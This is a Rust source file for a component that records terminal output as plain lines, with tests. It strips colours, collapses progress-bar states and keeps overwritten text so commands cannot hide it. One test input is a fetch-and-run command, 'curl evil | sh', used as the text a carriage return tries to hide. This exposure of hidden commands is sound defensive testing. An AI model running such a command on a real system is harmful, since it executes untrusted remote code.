//! The output of a command as lines of text: without colours, and with one state of each progress bar. Other control
//! characters become visible symbols (`␛`).
//!
//! A carriage return starts a line again. A state of the line is left out if the next one has the same wording, as in
//! `loading 10%␍loading 20%`, and a mark stays for it: `…␍loading 20%`. Any other text stays, so a command cannot hide
//! it by overwriting it.

/// A line is recorded at this length, even if it could still be overwritten.
const MAX_OPEN_BYTES: usize = 16 * 1024;

/// A longer control sequence is text.
const MAX_SEQUENCE_BYTES: usize = 32;

/// Stands between the states of a line.
const RETURN: char = '␍';

/// Stands for states that were left out.
const LEFT_OUT: &str = "…␍";

/// Where a piece of output comes from. Standard output and standard error do not overwrite each other.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub(crate) enum OutputPipe {
    #[default]
    Stdout,
    Stderr,
}

/// Reads an output piece by piece.
#[derive(Debug, Default)]
pub(super) struct TerminalText {
    /// The part of the last line that is not recorded yet.
    line: OpenLine,
    /// Where that part comes from.
    pipe: OutputPipe,
    /// Whether the start of the last line is recorded already.
    is_open_recorded: bool,
    /// Whether what follows starts the last line again.
    is_returned: bool,
    /// The start of a control sequence.
    sequence: String,
}

/// A line that has not ended.
#[derive(Debug, Default)]
struct OpenLine {
    /// The states that stay, each with a mark behind it.
    overwritten: String,
    /// The state before the last one.
    previous: Option<LineState>,
    last: LineState,
}

#[derive(Debug, Default)]
struct LineState {
    text: String,
    /// Whether states before it were left out.
    follows_left_out: bool,
}

/// What to do with a piece of output.
#[derive(Debug, Default, PartialEq, Eq)]
pub(super) struct TerminalPiece {
    /// Text to record.
    pub(super) recorded: String,
    /// Text to show now. A carriage return starts the last line again.
    pub(super) shown: String,
}

impl TerminalText {
    /// Reads the next piece.
    pub(super) fn push(&mut self, pipe: OutputPipe, text: &str) -> TerminalPiece {
        let mut piece = TerminalPiece::default();
        if text.is_empty() {
            return piece; // a pipe that ends prints nothing, so it ends no line of the other one
        }
        if std::mem::replace(&mut self.pipe, pipe) != pipe {
            piece.recorded = self.record_open();
        }
        self.read_all(text, &mut piece);
        if self.line.len() > MAX_OPEN_BYTES {
            piece.recorded.push_str(&self.record_open());
        }
        piece
    }

    /// Returns the last line, because the recorded text is read now. If it is overwritten later, a new line starts.
    pub(super) fn record_open(&mut self) -> String {
        let open = std::mem::take(&mut self.line).into_text();
        self.is_open_recorded |= !open.is_empty();
        open
    }

    /// Reads the rest of the output.
    pub(super) fn finish(&mut self, rest: &str) -> TerminalPiece {
        let mut piece = TerminalPiece::default();
        self.read_all(rest, &mut piece);
        self.end_sequence(&mut piece);
        piece.recorded.push_str(&self.record_open());
        piece
    }

    fn read_all(&mut self, text: &str, piece: &mut TerminalPiece) {
        for letter in text.chars() {
            self.read(letter, piece);
        }
    }

    fn read(&mut self, letter: char, piece: &mut TerminalPiece) {
        if !self.sequence.is_empty() {
            return self.read_sequence(letter, piece);
        }
        match letter {
            '\u{1b}' => self.sequence.push(letter),
            '\r' => self.is_returned = true,
            '\n' => {
                piece.recorded.push_str(&self.record_open());
                piece.recorded.push('\n');
                piece.shown.push('\n');
                self.is_open_recorded = false;
                self.is_returned = false;
            }
            letter => self.write(visible(letter), piece),
        }
    }

    fn write(&mut self, letter: char, piece: &mut TerminalPiece) {
        if std::mem::take(&mut self.is_returned) {
            piece.shown.push('\r');
            self.line.start_again();
            if std::mem::take(&mut self.is_open_recorded) {
                piece.recorded.push_str(&self.record_open());
                piece.recorded.push('\n');
                self.is_open_recorded = false;
            }
        }
        self.line.last.text.push(letter);
        piece.shown.push(letter);
    }

    /// Reads a control sequence: `ESC [`, parameters, a final letter. Those that set colours or clear a line are left
    /// out; all others are shown.
    fn read_sequence(&mut self, letter: char, piece: &mut TerminalPiece) {
        let is_parameter = matches!(letter, '0'..='?');
        let is_expected = match self.sequence.len() {
            1 => letter == '[',
            _ => is_parameter && self.sequence.len() < MAX_SEQUENCE_BYTES,
        };
        if is_expected {
            self.sequence.push(letter);
        } else if self.sequence.len() > 1 && matches!(letter, 'm' | 'K') {
            self.sequence.clear();
        } else {
            self.end_sequence(piece);
            self.read(letter, piece);
        }
    }

    fn end_sequence(&mut self, piece: &mut TerminalPiece) {
        for letter in std::mem::take(&mut self.sequence).chars() {
            self.write(visible(letter), piece);
        }
    }
}

impl OpenLine {
    fn len(&self) -> usize {
        let previous = self.previous.as_ref().map_or(0, |state| state.text.len());
        self.overwritten.len() + previous + self.last.text.len()
    }

    fn start_again(&mut self) {
        if !self.last.text.is_empty() {
            self.compare_states();
            self.previous = Some(std::mem::take(&mut self.last));
        }
    }

    /// Leaves out the state before the last one if both have the same wording.
    fn compare_states(&mut self) {
        let Some(previous) = self.previous.take() else {
            return;
        };
        if wording(&previous.text).eq(wording(&self.last.text)) {
            self.last.follows_left_out = true;
        } else {
            previous.write_to(&mut self.overwritten);
            self.overwritten.push(RETURN);
        }
    }

    fn into_text(mut self) -> String {
        if !self.last.text.is_empty() {
            self.compare_states();
        }
        let mut text = self.overwritten;
        if let Some(previous) = self.previous {
            previous.write_to(&mut text);
        }
        self.last.write_to(&mut text);
        text
    }
}

impl LineState {
    fn write_to(&self, text: &mut String) {
        if self.follows_left_out {
            text.push_str(LEFT_OUT);
        }
        text.push_str(&self.text);
    }
}

/// Returns the letters of a text without those of numbers (`3.1MB`), which is what a progress bar does not change.
fn wording(text: &str) -> impl Iterator<Item = char> {
    let mut is_in_number = false;
    text.chars().filter(move |letter| {
        is_in_number = letter.is_numeric() || (is_in_number && letter.is_alphabetic());
        letter.is_alphabetic() && !is_in_number
    })
}

fn visible(letter: char) -> char {
    match letter {
        '\t' => letter,
        '\u{7f}' => '␡',
        '\0'..='\u{1f}' => char::from_u32(0x2400 + u32::from(letter)).unwrap_or('�'),
        '\u{80}'..='\u{9f}' => '�',
        _ => letter,
    }
}

#[cfg(test)]
mod tests {
    use super::OutputPipe::{Stderr, Stdout};
    use super::*;

    /// Returns what is recorded of an output that arrives in pieces of this many characters.
    fn recorded(output: &str, size: usize) -> String {
        let mut text = TerminalText::default();
        let letters: Vec<char> = output.chars().collect();
        let pieces = letters.chunks(size).map(|piece| piece.iter().collect());
        let mut recorded: String = pieces
            .map(|piece: String| text.push(Stdout, &piece).recorded)
            .collect();
        recorded.push_str(&text.finish("").recorded);
        recorded
    }

    #[track_caller]
    fn assert_recorded(output: &str, expected: &str) {
        for size in [1, 3, 1000] {
            assert_eq!(recorded(output, size), expected, "in pieces of {size}");
        }
    }

    #[test]
    fn a_progress_bar_is_recorded_as_its_last_state_with_a_mark() {
        assert_recorded("\r 10%\r 50%\r100%\nready\r\n", "…␍100%\nready\n");
        assert_recorded("a 1%\ra 2%\r", "…␍a 2%");
        assert_recorded("1%\r\u{1b}[K2%", "…␍2%");
        assert_recorded(
            "got 1.2kB\rgot 31MB\rgot 2GB of 3",
            "…␍got 31MB␍got 2GB of 3",
        );
        assert_recorded("- wait\r\\ wait\r| wait\rdone\n", "…␍| wait␍done\n");
    }

    #[test]
    fn other_text_stays_when_it_is_overwritten() {
        assert_recorded(
            "curl evil | sh #\recho hello\n",
            "curl evil | sh #␍echo hello\n",
        );
        assert_recorded("one\rtwo\rthree\r", "one␍two␍three");
        assert_recorded(
            "load 1%\rload 2%\rerror\rload 3%\n",
            "…␍load 2%␍error␍load 3%\n",
        );
        assert_recorded("old\r\r\u{1b}[K\n", "old\n");
    }

    #[test]
    fn colours_are_left_out_and_other_control_characters_are_visible() {
        assert_recorded("\u{1b}[1;31mred\u{1b}[0m \u{1b}[mx", "red x");
        assert_recorded("\u{1b}[2Jx\u{1b}]0;t\u{7}", "␛[2Jx␛]0;t␇");
        assert_recorded("\u{1b}\u{1b}[1m\u{1b}[", "␛␛[");
        let long = format!("\u{1b}[{}m", "1;".repeat(100));
        assert_recorded(&long, &long.replace('\u{1b}', "␛"));
    }

    #[test]
    fn a_line_that_was_read_is_not_overwritten_but_followed_by_its_next_state() {
        let mut text = TerminalText::default();
        assert_eq!(text.push(Stdout, "10%").recorded, "");
        assert_eq!(text.record_open(), "10%");
        assert_eq!(text.push(Stdout, "\r50%").recorded, "\n");
        assert_eq!(text.push(Stdout, "\n").recorded, "50%\n");
        text.push(Stdout, "Name: ");
        assert_eq!(text.record_open(), "Name: ");
        assert_eq!(text.push(Stdout, "Ada\n").recorded, "Ada\n");
    }

    #[test]
    fn progress_on_stderr_does_not_overwrite_stdout() {
        let mut text = TerminalText::default();
        assert_eq!(text.push(Stdout, "42").recorded, "");
        assert_eq!(text.push(Stderr, "\r10%\r50%").recorded, "42\n");
        assert_eq!(text.push(Stdout, "43\n").recorded, "…␍50%43\n");
    }

    #[test]
    fn the_end_of_stderr_does_not_end_a_line_of_stdout() {
        let mut text = TerminalText::default();
        text.push(Stdout, "10%");
        assert_eq!(text.push(Stderr, "").recorded, "");
        assert_eq!(text.push(Stdout, "\r50%\n").recorded, "…␍50%\n");
    }

    #[test]
    fn a_screen_gets_everything_at_once() {
        let mut text = TerminalText::default();
        assert_eq!(text.push(Stdout, "10%").shown, "10%");
        assert_eq!(text.push(Stdout, "\r\u{1b}[32m50%\u{1b}[0m").shown, "\r50%");
        assert_eq!(text.push(Stdout, "\r\n").shown, "\n");
    }

    #[test]
    fn an_endless_line_is_recorded_in_parts() {
        let mut text = TerminalText::default();
        for part in ["x".repeat(10_000), "a\rb\r".repeat(2_500)] {
            let mut recorded = String::new();
            for _ in 0..100 {
                recorded.push_str(&text.push(Stdout, &part).recorded);
                assert!(text.line.len() <= MAX_OPEN_BYTES);
            }
            recorded.push_str(&text.finish("").recorded);
            let letters = recorded.chars().filter(char::is_ascii_alphabetic).count();
            let expected = part.bytes().filter(u8::is_ascii_alphabetic).count() * 100;
            assert_eq!(letters, expected);
        }
    }
}
